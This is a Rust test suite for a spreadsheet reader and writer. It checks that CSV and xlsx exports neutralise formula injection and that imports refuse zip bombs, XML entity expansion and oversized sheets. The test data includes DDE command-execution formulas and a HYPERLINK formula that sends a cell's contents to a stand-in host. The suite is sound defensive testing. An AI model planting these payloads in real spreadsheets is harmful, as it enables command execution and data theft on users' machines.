//! Tables: what goes out comes back, what would run does not, and what would burst is refused before it does.

use std::{
    io::{Cursor, Write as _},
    time::Instant,
};

use chrono::NaiveDate;
use proptest::prelude::*;
use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;

const PAYLOADS: [&str; 34] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.example/?\"&A1,\"点我\")",
    "=IMPORTXML(\"http://a.example\",\"//a\")",
    "=WEBSERVICE(\"http://a.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(1,2)*cmd|'/C calc'!A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+8613800000000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\t张三",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1",
    "'=1+1",
    "''=1+1",
    "'",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "=\"\"&\"a\"",
    "=A1;B1",
    "=,=,",
    "\"=1+1\"",
    "= 1",
    "=\n1",
    "-",
    "张三",
];

fn columns() -> Vec<Column> {
    ["姓名", "证件号码", "手机"].into_iter().map(|title| Column::new(title, 20)).collect()
}

fn open(bytes: &[u8]) -> Result<Workbook, TableError> {
    read(bytes, &Limits::default())
}

fn column_of(book: &Workbook, column: usize) -> Vec<String> {
    book.sheets[0].rows[1..]
        .iter()
        .map(|row| match row.get(column) {
            Some(Cell::Text(text)) => text.clone(),
            Some(Cell::Empty) | None => String::new(),
            other => panic!("not a text: {other:?}"),
        })
        .collect()
}

#[test]
fn formulas_come_back_as_the_texts_they_were_in_both_kinds() {
    let rows = || {
        PAYLOADS.iter().map(|text| {
            vec![Out::Text((*text).to_owned()), Out::Text("440605190001010013".into()), Out::Text("13800000000".into())]
        })
    };
    for bytes in [write_xlsx(&columns(), rows()).unwrap(), write_csv(&columns(), rows()).unwrap()] {
        let book = open(&bytes).unwrap();
        assert_eq!(column_of(&book, 0), PAYLOADS, "from {:?}", &bytes[..4]);
        assert!(column_of(&book, 1).iter().all(|id| id == "440605190001010013"));
    }
}

#[test]
fn nothing_written_is_a_formula() {
    let rows = || PAYLOADS.iter().map(|text| vec![Out::Text((*text).to_owned())]);
    let mut archive = zip::ZipArchive::new(Cursor::new(write_xlsx(&columns(), rows()).unwrap())).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "));
    let text = String::from_utf8(write_csv(&columns(), rows()).unwrap()).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().flexible(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records().map(Result::unwrap) {
        assert!(!record[0].starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{record:?}");
    }
}

#[test]
fn a_sheet_keeps_types_and_row_numbers() {
    let day = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
    let rows =
        vec![vec![Out::Int(42), Out::Hours(95), Out::Date(day)], vec![], vec![Out::Empty, Out::Text("x".into())]];
    let book = open(&write_xlsx(&columns(), rows.clone().into_iter()).unwrap()).unwrap();
    let sheet = &book.sheets[0];
    assert_eq!(
        sheet.rows[1],
        [Cell::Number(42.0), Cell::Number(1.58), Cell::Date(day.and_time(chrono::NaiveTime::MIN))]
    );
    assert_eq!((sheet.rows.len(), sheet.row_number(3), &sheet.rows[2]), (4, 4, &vec![]));
    let text = String::from_utf8(write_csv(&columns(), rows.into_iter()).unwrap()).unwrap();
    assert!(text.starts_with('\u{feff}') && text.contains("42,1.58,2026-11-23\r\n"), "{text}");
}

#[test]
fn merged_titles_hidden_tabs_and_blank_rows_above_are_told() {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.merge_range(1, 0, 1, 3, "大沥镇志愿者花名册", &rust_xlsxwriter::Format::new()).unwrap();
    sheet.write_string(2, 0, "姓名").unwrap();
    sheet.write_number(3, 1, 440_605_190_001_010_013_f64).unwrap();
    let list = book.add_worksheet();
    list.write_string(0, 0, "男").unwrap();
    list.set_hidden(true);
    let read = open(&book.save_to_buffer().unwrap()).unwrap();
    let sheet = &read.sheets[0];
    assert_eq!((sheet.first_row, sheet.row_number(1), sheet.hidden), (2, 3, false));
    assert_eq!(sheet.merges, [Merge { top: 2, bottom: 2, left: 0, right: 3 }]);
    assert_eq!(sheet.rows[2][1].shown(), "440605190001010000");
    assert!(read.sheets[1].hidden);
}

#[test]
fn text_is_read_in_each_encoding_and_with_each_delimiter() {
    let text = "姓名,备注\r\n张三,\"甲,乙\n丙\"\r\n\r\n䶮𠮷,好\r\n";
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(text.replace(',', "\t").encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let gb = encoding_rs::GB18030.encode(text).0.into_owned();
    let gb_semicolon = encoding_rs::GB18030.encode("姓名;备注\n张三;\"甲,乙\n丙\"\n\n䶮𠮷;好\n").0.into_owned();
    let bom = [b"\xef\xbb\xbf", text.as_bytes()].concat();
    for bytes in [text.as_bytes().to_vec(), bom, gb, gb_semicolon, format!("sep=,\n{text}").into_bytes()] {
        let sheet = open(&bytes).unwrap().sheets.remove(0);
        assert_eq!(sheet.rows[1], [Cell::text("张三"), Cell::text("甲,乙\n丙")]);
        assert_eq!(sheet.rows.last().unwrap()[0], Cell::text("䶮𠮷"));
    }
    let tabbed = open(&utf16).unwrap().sheets.remove(0);
    assert_eq!(tabbed.rows[1][0], Cell::text("张三"));
}

#[test]
fn blank_lines_count_and_lines_in_quotes_do_not() {
    let sheet = open("\n姓名,备注\n\n\"甲\n乙\",1\n丙,2\n".as_bytes()).unwrap().sheets.remove(0);
    let seen: Vec<(u32, String)> = sheet
        .rows
        .iter()
        .enumerate()
        .filter(|(_, row)| !row.is_empty())
        .map(|(at, row)| (sheet.row_number(at), row[0].shown()))
        .collect();
    assert_eq!(seen, [(2, "姓名".to_owned()), (4, "甲\n乙".to_owned()), (5, "丙".to_owned())]);
}

#[test]
fn what_is_no_table_is_told_apart() {
    for (bytes, error) in [
        (&b""[..], TableError::Empty),
        (b"\xef\xbb\xbf  \n", TableError::Empty),
        (b"%PDF-1.7", TableError::NotATable),
        (b"\x89PNG\r\n", TableError::NotATable),
        (b"<html><table><tr><td>1", TableError::WebPage),
        (b"\xff\xff\xff\xff", TableError::Encoding),
        (b"PK\x03\x04 broken", TableError::Broken),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 broken", TableError::Broken),
        (b"a\0b,c", TableError::NotATable),
    ] {
        assert_eq!(open(bytes), Err(error), "{bytes:?}");
    }
    assert_eq!(open(&package(&[("word/document.xml", b"<w/>".to_vec())])), Err(TableError::NotATable));
}

fn package(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A real workbook whose sheet is replaced.
fn with_sheet(sheet: &str) -> Vec<u8> {
    let mut source = zip::ZipArchive::new(Cursor::new(write_xlsx(&columns(), std::iter::empty()).unwrap())).unwrap();
    let names: Vec<String> = source.file_names().map(str::to_owned).collect();
    let members: Vec<(&str, Vec<u8>)> = names
        .iter()
        .map(|name| {
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut source.by_name(name).unwrap(), &mut bytes).unwrap();
            (name.as_str(), if name.ends_with("sheet1.xml") { sheet.as_bytes().to_vec() } else { bytes })
        })
        .collect();
    package(&members)
}

fn sheet_of(rows: &str) -> String {
    format!(
        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
    )
}

#[test]
fn bombs_are_refused_quickly() {
    let zeros = |megabytes: usize| vec![b' '; megabytes << 20];
    let many: Vec<(String, Vec<u8>)> = (0..600).map(|n| (format!("xl/{n}.xml"), b"<a/>".to_vec())).collect();
    let many: Vec<(&str, Vec<u8>)> = many.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect();
    let entities = r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><worksheet/>"#;
    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(entities.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let seam = format!("{}{}", " ".repeat(64 * 1024 - 5), entities);
    let texts = format!("<sst>{}</sst>", "<si/>".repeat(1_000_001));
    let bombs: Vec<(&str, Vec<u8>, TableError)> = vec![
        ("one large member", package(&[("xl/workbook.xml", zeros(51))]), TableError::Swollen),
        (
            "many middling members",
            package(&[("xl/workbook.xml", zeros(2)), ("b", zeros(2)), ("c", zeros(2))]),
            TableError::Swollen,
        ),
        ("ratio", package(&[("xl/workbook.xml", zeros(5))]), TableError::Swollen),
        ("members", package(&many), TableError::TooManyMembers),
        ("entities", with_sheet(entities), TableError::Entities),
        ("entities in two bytes", package(&[("xl/workbook.xml", wide)]), TableError::Entities),
        ("entities on a seam", with_sheet(&seam), TableError::Entities),
        (
            "far row",
            with_sheet(&sheet_of(r#"<row r="1048576"><c r="A1048576"><v>1</v></c></row>"#)),
            TableError::TooManyRows { allowed: 200_000 },
        ),
        (
            "far column",
            with_sheet(&sheet_of(r#"<row r="1"><c r="XFD1"><v>1</v></c></row>"#)),
            TableError::TooManyColumns { allowed: 256 },
        ),
        (
            "wide rows",
            with_sheet(&sheet_of(
                &(1..40_000).map(|n| format!(r#"<row r="{n}"><c r="IV{n}"><v>{n}</v></c></row>"#)).collect::<String>(),
            )),
            TableError::Swollen,
        ),
        (
            "texts without end",
            package(&[("xl/workbook.xml", b"<a/>".to_vec()), ("xl/sharedStrings.xml", texts.into_bytes())]),
            TableError::Swollen,
        ),
        ("200 MB", vec![b'a'; 200 << 20], TableError::TooLarge { bytes: 200 << 20, allowed: 10 << 20 }),
        ("damaged sheet", with_sheet("<worksheet><sheetData><row r=\"1\"><c r=\"A"), TableError::Broken),
    ];
    for (name, bytes, error) in bombs {
        let started = Instant::now();
        assert_eq!(open(&bytes), Err(error), "{name}");
        assert!(started.elapsed().as_secs() < 3, "{name}: {:?}", started.elapsed());
    }
}

#[test]
fn a_directory_that_lies_about_sizes_is_not_believed() {
    let mut bytes = package(&[("xl/workbook.xml", vec![b' '; 3 << 20])]);
    let at = bytes.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    bytes[at + 24..at + 28].copy_from_slice(&10_u32.to_le_bytes());
    let limits = Limits { unpacked: 2 << 20, ratio: u64::MAX, ..Limits::default() };
    assert!(matches!(read(&bytes, &limits), Err(TableError::Swollen | TableError::Broken)));
}

/// A compound file with one stream in whole sectors, as an old workbook is.
fn compound(name: &str, stream: &[u8]) -> Vec<u8> {
    let sectors = stream.len().div_ceil(512).max(8);
    let mut fat = vec![0xffff_fffd_u32, 0xffff_fffe];
    fat.extend((0..sectors).map(|n| if n + 1 == sectors { 0xffff_fffe } else { u32::try_from(n).unwrap() + 3 }));
    fat.resize(128, 0xffff_ffff);
    let mut head = vec![0_u8; 512];
    head[..8].copy_from_slice(&xls::MARK);
    for (at, value) in [(0x18, 0x3e_u16), (0x1a, 3), (0x1c, 0xfffe), (0x1e, 9), (0x20, 6)] {
        head[at..at + 2].copy_from_slice(&value.to_le_bytes());
    }
    for (at, value) in [(0x2c, 1_u32), (0x30, 1), (0x38, 4096), (0x3c, 0xffff_fffe), (0x44, 0xffff_fffe), (0x4c, 0)] {
        head[at..at + 4].copy_from_slice(&value.to_le_bytes());
    }
    head[0x50..].fill(0xff);
    let entry = |name: &str, kind: u8, first: u32, size: usize| {
        let mut entry = vec![0_u8; 128];
        let wide: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        entry[..wide.len()].copy_from_slice(&wide);
        entry[64..66].copy_from_slice(&u16::try_from(wide.len() + 2).unwrap().to_le_bytes());
        entry[66] = kind;
        entry[0x74..0x78].copy_from_slice(&first.to_le_bytes());
        entry[0x78..0x7c].copy_from_slice(&u32::try_from(size).unwrap().to_le_bytes());
        entry
    };
    let mut file = head;
    file.extend(fat.into_iter().flat_map(u32::to_le_bytes));
    file.extend([entry("Root Entry", 5, 0xffff_fffe, 0), entry(name, 2, 2, sectors * 512), vec![0; 256]].concat());
    file.extend_from_slice(stream);
    file.resize(512 * (3 + sectors), 0);
    file
}

fn record(kind: u16, body: &[u8]) -> Vec<u8> {
    [&kind.to_le_bytes()[..], &u16::try_from(body.len()).unwrap().to_le_bytes(), body].concat()
}

/// A binary workbook of one sheet that holds numbers at the given rows and columns.
fn xls(cells: &[(u16, u16, f64)]) -> Vec<u8> {
    let begin = |kind: u16| record(0x0809, &[&0x0600_u16.to_le_bytes()[..], &kind.to_le_bytes(), &[0; 12]].concat());
    let bound = |at: u32| record(0x0085, &[&at.to_le_bytes()[..], &[0, 0, 2, 0], b"S1"].concat());
    let at = begin(5).len() + bound(0).len() + 4;
    let mut stream = [begin(5), bound(u32::try_from(at).unwrap()), record(0x0a, &[]), begin(0x10)].concat();
    for (row, column, number) in cells {
        stream.extend(record(
            0x0203,
            &[&row.to_le_bytes()[..], &column.to_le_bytes(), &[0, 0], &number.to_le_bytes()].concat(),
        ));
    }
    stream.extend(record(0x0a, &[]));
    compound("Workbook", &stream)
}

#[test]
fn an_old_workbook_is_read_and_its_far_corners_are_refused() {
    let book = open(&xls(&[(2, 1, 7.0), (3, 0, 46_349.0)])).unwrap();
    assert_eq!((book.sheets[0].first_row, &book.sheets[0].rows[0]), (3, &vec![Cell::Empty, Cell::Number(7.0)]));
    assert_eq!(open(&xls(&[(0, 0, 1.0), (65_535, 255, 1.0)])), Err(TableError::Swollen));
    assert_eq!(open(&compound("EncryptedPackage", &[0; 64])), Err(TableError::Password));
    assert_eq!(open(&compound("WordDocument", &[0; 64])), Err(TableError::NotATable));
}

/// A roster of 15 columns with as many repetitions as rosters have.
fn roster(rows: i64) -> Vec<u8> {
    let wide: Vec<Column> = (0..15).map(|n| Column::new(format!("列{n}"), 12)).collect();
    let text = |n: i64, column: i64| Out::Text(format!("大沥镇沥雄社区{}", (n * 31 + column) % 977));
    let row = |n: i64| (0..15).map(|column| if column == 0 { Out::Int(n) } else { text(n, column) }).collect();
    write_xlsx(&wide, (0..rows).map(row)).unwrap()
}

#[test]
fn a_tenth_of_the_full_roster_passes_a_tenth_of_the_limits() {
    let limits = Limits { packed: 1 << 20, unpacked: 5 << 20, ratio_from: 0, cells: 400_000, ..Limits::default() };
    let sheet = read(&roster(3_100), &limits).unwrap().sheets.remove(0);
    assert_eq!((sheet.rows.len(), sheet.rows[3_100].len()), (3_101, 15));
}

#[test]
#[ignore = "a measurement, for release builds"]
fn times() {
    let wide: Vec<Column> = (0..10).map(|n| Column::new(format!("列{n}"), 12)).collect();
    let row = |n: i64| (0..10).map(|column| Out::Text(format!("大沥镇沥雄社区{}", n * 10 + column))).collect();
    let started = Instant::now();
    let bytes = write_xlsx(&wide, (0..31_000).map(row)).unwrap();
    let wrote = started.elapsed();
    let csv = write_csv(&wide, (0..31_000).map(row)).unwrap();
    let csv_wrote = started.elapsed() - wrote;
    let started = Instant::now();
    open(&bytes).unwrap();
    let read = started.elapsed();
    open(&csv).unwrap();
    println!(
        "31,000 x 10: xlsx out {wrote:?} in {read:?} ({} bytes), csv out {csv_wrote:?} in {:?}",
        bytes.len(),
        started.elapsed() - read
    );
    assert_eq!(open(&roster(31_000)).unwrap().sheets[0].rows.len(), 31_001);
}

proptest! {
    #[test]
    fn any_text_survives_csv(texts in prop::collection::vec("[='@+,;\"\\r\\n\\t a张-]{1,12}", 1..6)) {
        let texts: Vec<String> = texts.into_iter().filter(|text| !text.trim().is_empty()).collect();
        prop_assume!(!texts.is_empty());
        let columns = [Column::new("甲", 9), Column::new("乙", 9)];
        let bytes = write_csv(&columns, texts.iter().map(|text| vec![Out::Text(text.clone()), Out::Text("x".into())])).unwrap();
        let book = open(&bytes).unwrap();
        let back: Vec<String> = column_of(&book, 0).into_iter().filter(|text| !text.is_empty()).collect();
        prop_assert_eq!(back, texts);
    }

    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..400), mark in 0..3) {
        let mark: &[u8] = [&b""[..], b"PK\x03\x04", &xls::MARK][usize::try_from(mark).unwrap()];
        let _ = open(&[mark, &bytes].concat());
    }
}
